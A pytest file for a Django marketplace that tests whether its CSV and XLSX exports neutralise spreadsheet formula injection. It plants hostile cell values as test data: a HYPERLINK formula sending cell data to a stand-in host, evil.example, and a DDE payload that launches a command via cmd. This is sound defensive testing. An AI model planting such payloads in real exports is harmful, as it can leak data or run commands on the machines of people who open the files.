"""Every CSV and XLSX file the platform produces goes through one writer
(`marketplace.core.exports`) that keeps spreadsheet formulas from running: a text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading quote, XLSX cells are
strings (never formulas), and numbers stay numbers (a negative amount too).

EXPORTS lists every export, each produced through its real page or service with hostile text
planted wherever a seller or buyer can put text into it; a test below also fails when a new
`csv.writer` or `openpyxl.Workbook` appears anywhere else in the code.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from catalog.services import bulk
from marketplace.core import exports
from orders.finance.services import settlement
from orders.models import LedgerEntry
from tests.factories.catalog import make_product, sku, tea_category

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
MORE_HOSTILE = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parent.parent
NUMBER = re.compile(r"-?\d+(\.\d+)?")  # a CSV cell a spreadsheet reads as a number


def _job_file(job) -> tuple[str, bytes]:
    bulk.run_job(job.pk)
    job.refresh_from_db()
    with job.result.open("rb") as handle:
        return job.format, handle.read()


def product_export(fmt):
    def produce(shop, client):
        make_product(
            shop,
            tea_category(),
            title=HOSTILE,
            search_keywords=MORE_HOSTILE[0],
            description=MORE_HOSTILE[2],
            skus=[sku("HOSTILE-1", "88.00", stock=5)],
        )
        return _job_file(bulk.start_export(shop=shop, actor=shop.owner, fmt=fmt))

    return produce


def import_error_report(shop, client):
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # a file a seller made: raw, nothing escaped
    writer.writerow(["product_code", "title", "category", "sku_code", "price"])
    writer.writerow([HOSTILE, "Tea", "no-such-category", MORE_HOSTILE[1], "not a price"])
    upload = SimpleUploadedFile("p.csv", buffer.getvalue().encode(), content_type="text/csv")
    job = bulk.start_import(shop=shop, actor=shop.owner, upload=upload)
    bulk.run_job(job.pk)
    job.refresh_from_db()
    with job.error_report.open("rb") as handle:
        return "csv", handle.read()


def import_template(shop, client):
    response = client.get(reverse("seller:catalog-import-template"))
    return "csv", response.content


def statement_csv(shop, client):
    start, end = settlement.statement_period(timezone.localdate().replace(day=1) - timedelta(1))
    when = timezone.make_aware(datetime.combine(start, datetime.min.time())) + timedelta(hours=9)
    for amount, memo in (("300.00", HOSTILE), ("-15.00", MORE_HOSTILE[3])):
        LedgerEntry.objects.create(
            shop=shop,
            kind=LedgerEntry.Kind.ADJUSTMENT,
            amount=Decimal(amount),
            currency="CNY",
            source=f"test:{amount}",
            order_number=MORE_HOSTILE[4],
            memo=memo,
            created_at=when,
            available_at=when,
        )
    statement = settlement.generate_statement(shop=shop, currency="CNY", start=start, end=end)
    response = client.get(reverse("seller:finance-statement-csv", args=[statement.pk]))
    return "csv", b"".join(response.streaming_content)


def bulk_ship_example(shop, client):
    return "csv", client.get(reverse("seller:orders-bulk-ship-example")).content


EXPORTS = {
    "catalog product export (CSV)": product_export("csv"),
    "catalog product export (XLSX)": product_export("xlsx"),
    "catalog import error report (CSV)": import_error_report,
    "catalog import template (CSV)": import_template,
    "finance settlement statement (CSV)": statement_csv,
    "logistics bulk-shipping example (CSV)": bulk_ship_example,
}


def _cells(fmt, data):
    """(value, is a formula) of every cell of the file."""
    if fmt == "csv":
        text = data.decode("utf-8")
        assert text.startswith(exports.BOM)
        rows = csv.reader(io.StringIO(text.removeprefix(exports.BOM)))
        return [(value, False) for row in rows for value in row]
    sheet = load_workbook(io.BytesIO(data)).active
    return [(cell.value, cell.data_type == "f") for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("produce", EXPORTS.values(), ids=EXPORTS.keys())
def test_every_export_goes_through_the_one_writer_and_runs_no_formula(
    produce, shop, seller_client, media_root, reference_data, monkeypatch
):
    written = []
    original = exports._cell
    monkeypatch.setattr(exports, "_cell", lambda value: written.append(value) or original(value))

    fmt, data = produce(shop, seller_client)
    cells = _cells(fmt, data)

    assert not [value for value, formula in cells if formula]
    texts = [value for value, _ in cells if isinstance(value, str)]
    assert not [
        text
        for text in texts
        if text.startswith(exports.FORMULA_STARTS) and not NUMBER.fullmatch(text)
    ]
    assert written, "this export does not go through marketplace.core.exports"
    planted = {value for value in written if value in (HOSTILE, *MORE_HOSTILE)}
    for value in planted:
        assert "'" + value in texts


def test_every_planted_export_shows_the_hostile_text_as_text(shop, seller_client, media_root):
    fmt, data = product_export("xlsx")(shop, seller_client)
    sheet = load_workbook(io.BytesIO(data)).active
    title = sheet.cell(row=2, column=2)
    price = sheet.cell(row=2, column=5)

    assert (title.value, title.data_type) == ("'" + HOSTILE, "s")
    assert (price.value, price.data_type) == (88, "n")  # a number stays a number


def test_negative_amounts_stay_numbers_in_the_statement(shop, seller_client):
    fmt, data = statement_csv(shop, seller_client)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").removeprefix(exports.BOM))))

    assert [row[4] for row in rows[1:3]] == ["300.00", "-15.00"]
    assert [row[3] for row in rows[1:3]] == ["'" + HOSTILE, "'" + MORE_HOSTILE[3]]


def test_an_exported_file_reimports_the_text_as_it_was(shop, green_tea_with_hostile_title):
    fmt, data = _job_file(bulk.start_export(shop=shop, actor=shop.owner, fmt="csv"))
    upload = SimpleUploadedFile("products.csv", data, content_type="text/csv")

    job = bulk.start_import(shop=shop, actor=shop.owner, upload=upload)
    bulk.run_job(job.pk)
    job.refresh_from_db()

    assert (job.ok_rows, job.error_rows) == (1, 0), job.errors_preview
    green_tea_with_hostile_title.refresh_from_db()
    assert green_tea_with_hostile_title.title == "-Longjing green tea, first flush"


@pytest.fixture
def green_tea_with_hostile_title(shop, media_root, reference_data):
    return make_product(
        shop,
        tea_category(),
        code="LJ",
        title="-Longjing green tea, first flush",
        attributes={"origin": "Hangzhou", "grade": "first"},
        skus=[sku("LJ-1", "88.00", stock=5)],
    )


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")


def test_no_spreadsheet_is_written_outside_the_one_writer():
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".venv/", "tests/", "var/")) or "/migrations/" in relative:
            continue
        if relative != "marketplace/core/exports.py" and WRITERS.search(path.read_text()):
            offenders.append(relative)
    assert offenders == []
